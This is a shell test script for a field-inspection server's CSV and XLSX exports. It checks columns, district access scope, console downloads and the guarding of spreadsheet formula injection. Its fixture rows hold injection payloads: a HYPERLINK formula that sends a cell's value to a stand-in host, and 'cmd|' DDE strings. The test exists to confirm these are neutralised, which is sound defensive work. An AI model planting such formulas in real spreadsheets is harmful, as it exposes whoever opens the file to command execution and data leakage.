#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Exports (issue 17, and issue 15's spreadsheet formulas) on a real server
# that real devices pushed to (SQLite, and PostgreSQL with FC_TEST_DB=pg):
# `fieldcheck-server export` and the console's download give the same
# columns under the same scope rule; records of a programme have a column per
# item with the checklist's labels (ids with --codes) and proof columns; the
# hazard ledger and the overdue list; CSV read back with a CSV reader and
# XLSX unzipped: no cell is a formula, text starting with = + - @ TAB or CR
# gets an apostrophe in both (XLSX text is also always a string cell), and
# numbers stay numbers.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/common.inc"
ANS="$FC_ROOT/tests/data/answers"
PW='correct horse battery'

# Registry cells that a spreadsheet would run, written by Python so they are exact.
python3 - "$T/hh.csv" <<'PY'
import csv, sys
rows = [["H1", "D1", '=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-1", "residential"],
        ["H2", "D1", "@SUM(1)", "-2+3", "13800000002", "rural"],
        ["H3", "D2", "和平街4号", "周杰", "13800000004", "residential"],
        ["H4", "D1", "=cmd|' /C calc'!A0", "孙丽", "13800000005", "catering"]]
with open(sys.argv[1], "w", newline="") as f:
    w = csv.writer(f, lineterminator="\r\n")
    w.writerow(["id", "district", "address", "resident", "phone", "kind", "last_check"])
    for r in rows:
        w.writerow(r + [""])
PY
expect_exit 0 "a registry with formula-like addresses and names imports" \
    "$FCS" --db "$DB" households import "$T/hh.csv"
for a in "sup1 --role supervisor --districts D1" "city1 --role city"; do
	# shellcheck disable=SC2086
	printf '%s\n' "$PW" | "$FCS" --db "$DB" user add $a --password-stdin 2>/dev/null
done
PORT=$(free_port)
URL="http://127.0.0.1:$PORT"
"$FCS" --db "$DB" serve --listen "127.0.0.1:$PORT" --web "$FC_ROOT/web" 2>>"$T/server.log" &
SERVER_PID=$!
fc_on_exit "kill $SERVER_PID 2>/dev/null; wait $SERVER_PID 2>/dev/null"
wait_port "$PORT"
A="$T/dev-a" B="$T/dev-b"
enrolled_device "$A" ana D1
enrolled_device "$B" ben D2
dsync "$A" >/dev/null 2>&1
dsync "$B" >/dev/null 2>&1
crec() {
	echo "$PIN" | FIELDCHECK_HOME="$1" "$FC" record --template "$2" --household "$3" \
	    --answers "$ANS/$4.json" --pin-stdin --json |
	    python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])'
}
R1=$(crec "$A" gas H1 gas-major)
R2=$(crec "$A" rural H2 rural-c)
R3=$(crec "$B" gas H3 gas-clean)
ok "three records in two districts" test -n "$R1" -a -n "$R2" -a -n "$R3"
expect_exit 0 "the D1 device pushes" dsync "$A"
expect_exit 0 "the D2 device pushes" dsync "$B"

# check.py FILE: reads a CSV or XLSX export back; prints JSON
# {"sheets": {name: [[cells]]}, "formulas": n, "numbers": {sheet: [(row, col)]}}.
cat >"$T/check.py" <<'PY'
import csv, json, re, sys, zipfile
from xml.etree import ElementTree as ET
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
path = sys.argv[1]
out = {"sheets": {}, "formulas": 0, "numbers": {}, "guarded_bad": []}
num = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")
if path.endswith(".csv"):
    raw = open(path, "rb").read()
    out["bom"] = raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    out["sheets"]["csv"] = rows
    for r in rows:
        for c in r:
            if c and c[0] in "=+-@\t\r" and not num.match(c):
                out["guarded_bad"].append(c)
else:
    z = zipfile.ZipFile(path)
    wb = ET.fromstring(z.read("xl/workbook.xml"))
    names = [s.get("name") for s in wb.find("m:sheets", NS)]
    shared = []
    if "xl/sharedStrings.xml" in z.namelist():
        for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", NS):
            shared.append("".join(t.text or "" for t in si.iter("{%s}t" % NS["m"])))
    for i, name in enumerate(names, 1):
        xml = z.read("xl/worksheets/sheet%d.xml" % i).decode("utf-8")
        out["formulas"] += len(re.findall(r"<f[ >/]", xml))
        rows, nums = [], []
        for r in ET.fromstring(xml).iter("{%s}row" % NS["m"]):
            cells = []
            for c in r.findall("m:c", NS):
                col = 0
                for ch in re.match(r"[A-Z]+", c.get("r")).group(0):
                    col = col * 26 + ord(ch) - 64
                while len(cells) < col - 1:
                    cells.append("")
                t = c.get("t")
                if t == "inlineStr":
                    v = "".join(x.text or "" for x in c.iter("{%s}t" % NS["m"]))
                elif t == "s":
                    v = shared[int(c.find("m:v", NS).text)]
                else:
                    v = None
                if v is not None:
                    # Text cells: the same first-character rule as the CSV.
                    if v and v[0] in "=+-@\t\r" and not num.match(v):
                        out["guarded_bad"].append(v)
                else:
                    v = c.find("m:v", NS).text
                    nums.append((len(rows), col - 1))
                cells.append(v)
            rows.append(cells)
        out["sheets"][name] = rows
        out["numbers"][name] = nums
print(json.dumps(out, ensure_ascii=False))
PY
# rd FILE EXPR: EXPR over the read-back file (as j; col(sheet, header) lists a column).
rd() {
	python3 "$T/check.py" "$1" >"$T/rd.json" || return 1
	python3 -c "
import json, sys
j = json.load(open(sys.argv[1]))
def col(s, h):
    rows = j['sheets'][s]
    i = rows[0].index(h)
    return [r[i] if i < len(r) else '' for r in rows[1:]]
print($2)" "$T/rd.json"
}
X() { "$FCS" --db "$DB" export "$@"; }

cd "$T" || exit 1
expect_exit 0 "export records --programme gas --format csv --lang en" \
    X records --programme gas --format csv --lang en --out "$T/gas.csv"
contains "it says how many rows" "$T/out" "gas.csv: 2 rows"
ok "CSV starts with a byte-order mark (for spreadsheets in a Chinese locale)" \
    test "$(rd "$T/gas.csv" 'j["bom"]')" = True
ok "one row per current gas record of both districts" \
    test "$(rd "$T/gas.csv" 'sorted(col("csv", "Record"))')" = "$(python3 -c "print(sorted(['$R1', '$R3']))")"
ok "a column per item, headed by the checklist's English label" \
    test "$(rd "$T/gas.csv" '"Gas leak alarm installed" in j["sheets"]["csv"][0] and len(j["sheets"]["csv"][0]) > 40')" = True
ok "answers by their option labels" test "$(rd "$T/gas.csv" 'sorted(col("csv", "Gas leak alarm installed"))')" != "[]"
ok "proof columns: chain position, hash and signature" \
    test "$(rd "$T/gas.csv" '[len(x) for x in col("csv", "Hash")] + [len(x) for x in col("csv", "Signature")]')" = "[64, 64, 128, 128]"
ok "no CSV cell a spreadsheet would run" test "$(rd "$T/gas.csv" 'j["guarded_bad"]')" = "[]"
expect_exit 0 "with --codes the headers are item ids" \
    X records --programme gas --format csv --codes --out "$T/gas-codes.csv"
ok "(G01 among them, answers as codes)" \
    test "$(rd "$T/gas-codes.csv" 'sorted(set(col("csv", "G01")))')" = "['residential']"
expect_exit 2 "records as CSV without a programme is refused (one table per file)" \
    X records --format csv --out "$T/all.csv"
contains "saying why" "$T/err" "a CSV file holds one programme"
ok "and leaves no half file" test ! -e "$T/all.csv"

expect_exit 0 "export records --format xlsx: one sheet per programme" X records --format xlsx --out "$T/rec.xlsx"
ok "(gas, selfbuilt, rural)" test "$(rd "$T/rec.xlsx" 'list(j["sheets"])')" = "['gas', 'selfbuilt', 'rural']"
ok "the rural appraisal with its grade C" test "$(rd "$T/rec.xlsx" 'col("rural", "等级")')" = "['C']"
ok "headers in Chinese by default" test "$(rd "$T/rec.xlsx" 'j["sheets"]["gas"][0][0]')" = "记录"
ok "no formula in any sheet" test "$(rd "$T/rec.xlsx" 'j["formulas"]')" = 0
ok "where the labels export shows the option's label (Chinese by default)" \
    test "$(rd "$T/rec.xlsx" 'col("gas", "用户类型")')" = "['居民', '居民']"
ok "chain positions are number cells" \
    test "$(rd "$T/rec.xlsx" '(0 + len(j["sheets"]["gas"][0]) and (1, j["sheets"]["gas"][0].index("链上位置")) in [tuple(x) for x in j["numbers"]["gas"]])')" = True

for f in csv xlsx; do
	expect_exit 0 "export hazards --format $f" X hazards --format $f --out "$T/hz.$f"
	S=$([ $f = csv ] && echo csv || echo hazards)
	ok "($f) the hazards of H1 with H1's address" \
	    test "$(rd "$T/hz.$f" "sorted(set(a for a, h in zip(col('$S', '地址'), col('$S', '住户')) if h == 'H1'))")" = \
	    "$(rd "$T/hz.$f" "[\"'\" + '=HYPERLINK(\"http://x.example/?\"&A1,\"click\")']")"
	ok "($f) found, deadline, state and the record that raised each" \
	    test "$(rd "$T/hz.$f" "all(col('$S', '记录')) and all(col('$S', '发现')) and set(col('$S', '状态')) == {'open'}")" = True
	expect_exit 0 "export overdue --format $f" X overdue --format $f --out "$T/od.$f"
	S=$([ $f = csv ] && echo csv || echo overdue)
	ok "($f) the never-inspected catering unit H4 is overdue, the inspected ones are not" \
	    test "$(rd "$T/od.$f" "sorted(set(col('$S', '住户')))")" = "['H4']"
done
ok "(xlsx) formula-like registry text in a text cell after an apostrophe, as in the CSV" \
    test "$(rd "$T/od.xlsx" "col('overdue', '地址') == [\"'=cmd|' /C calc'!A0\"]")" = True
ok "(csv) the same cell guarded with an apostrophe" \
    test "$(rd "$T/od.csv" "col('csv', '地址')")" = "[\"'=cmd|' /C calc'!A0\"]"
ok "(xlsx) no formula in the hazards or overdue sheets" \
    test "$(rd "$T/hz.xlsx" 'j["formulas"]')$(rd "$T/od.xlsx" 'j["formulas"]')" = 00
for x in rec hz od; do
	ok "($x.xlsx) no text cell starts with = + - @ TAB or CR unguarded (every cell read back)" \
	    test "$(rd "$T/$x.xlsx" 'j["guarded_bad"]')" = "[]"
done
for x in hz od; do
	ok "($x.csv) no CSV cell starts with = + - @ TAB or CR unguarded" \
	    test "$(rd "$T/$x.csv" 'j["guarded_bad"]')" = "[]"
done

# The scope rule.
expect_exit 0 "export --as sup1 keeps sup1's district" X hazards --as sup1 --format csv --out "$T/sup1.csv"
ok "(only D1)" test "$(rd "$T/sup1.csv" 'sorted(set(col("csv", "辖区")))')" = "['D1']"
expect_exit 0 "export --district D2 narrows to D2" X records --programme gas --district D2 --format csv --out "$T/d2.csv"
ok "(only the D2 record)" test "$(rd "$T/d2.csv" 'col("csv", "记录")')" = "['$R3']"
expect_exit 1 "export --as sup1 --district D2 is refused" X hazards --as sup1 --district D2 --out "$T/no.csv"
contains "naming the account and district" "$T/err" "sup1 may not see district D2"
expect_exit 1 "a bad district id is refused" X hazards --district 'D1;x' --out "$T/no.csv"
expect_exit 2 "an unknown export is refused" X everything

# The console's download: the same file as the command line's for the same scope.
curl -s -o /dev/null -c "$T/j1" -H 'Content-Type: application/json' \
    -d "{\"name\":\"sup1\",\"password\":\"$PW\"}" "$URL/console/api/login"
dl() { curl -s -D "$T/headers" -o "$T/$2" -w '%{http_code}' -b "$T/j1" "$URL/console/api/export?$1"; }
ok "the console downloads the hazard ledger as XLSX" test "$(dl 'what=hazards&format=xlsx' dl.xlsx)" = 200
contains "as an attachment" "$T/headers" "attachment; filename=\"fieldcheck-hazards-"
ok "(D1 only, no formula)" test "$(rd "$T/dl.xlsx" '(sorted(set(col("hazards", "辖区"))), j["formulas"])')" = "(['D1'], 0)"
ok "the console's CSV is byte for byte the command line's for the same account" \
    test "$(dl 'what=hazards&format=csv' dl.csv)" = 200
ok "(same bytes)" cmp -s "$T/dl.csv" "$T/sup1.csv"
# The file's language is the request's, as every answer of the console; lang= wins.
dll() { curl -s -o "$T/$3" -w '%{http_code}' -H "Accept-Language: $2" -b "$T/j1" \
    "$URL/console/api/export?$1"; }
ok "an English browser's download has English headers" \
    test "$(dll 'what=hazards&format=csv' 'en-US,en;q=0.9' en.csv)" = 200 -a \
    "$(rd "$T/en.csv" 'j["sheets"]["csv"][0][0]')" = Household
ok "  lang=zh gives it Chinese ones" \
    test "$(dll 'what=hazards&format=csv&lang=zh' 'en-US,en;q=0.9' zh.csv)" = 200 -a \
    "$(rd "$T/zh.csv" 'j["sheets"]["csv"][0][0]')" = 住户
ok "  and a Chinese browser's lang=en English ones" \
    test "$(dll 'what=hazards&format=csv&lang=en' 'zh-CN,zh;q=0.9' en2.csv)" = 200 -a \
    "$(rd "$T/en2.csv" 'j["sheets"]["csv"][0][0]')" = Household
ok "district=D2 is 403 for the D1 supervisor" test "$(dl 'what=records&format=xlsx&district=D2' no)" = 403
ok "a bad export name is 400" test "$(dl 'what=everything' no)" = 400
ok "without a session, 401" test "$(curl -s -o /dev/null -w '%{http_code}' "$URL/console/api/export?what=hazards")" = 401
expect_exit 0 "the audit log" "$FCS" --db "$DB" audit --since "$(date -u +%F)"
contains "names each download, its scope and size" "$T/out" "console export"
contains "(hazards xlsx districts D1)" "$T/out" "hazards xlsx districts D1"
stop_server
